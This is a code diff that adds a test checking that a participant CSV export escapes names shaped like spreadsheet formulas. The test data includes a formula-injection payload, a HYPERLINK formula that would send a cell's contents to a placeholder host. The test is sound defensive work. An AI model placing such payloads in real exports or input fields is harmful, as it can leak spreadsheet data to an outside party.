@@ -486,3 +486,15 @@ def test_hearing_outcome_without_a_recording_time_counts_from_the_hearing(
     four_days_ago = timezone.now() - dt.timedelta(days=4)
     then = _rows(hearings_table(officer, _scope(days_back=30, as_of=four_days_ago)))
     assert then["Failed to appear"][0] == 1
+
+
+def test_a_name_that_looks_like_a_formula_is_exported_as_text(
+    make_participant, make_user, client_for
+):
+    make_participant(given_name='=HYPERLINK("http://x.example/?"&B2)', family_name="@SUM(1)")
+    response = client_for(make_user(Role.SUPERVISOR)).post(
+        "/reports/participants.csv", {"purpose": "Quarterly report to the court"}
+    )
+    text = response.content.decode()
+    assert "'=HYPERLINK(" in text and "'@SUM(1)" in text
+    assert ",=HYPERLINK" not in text
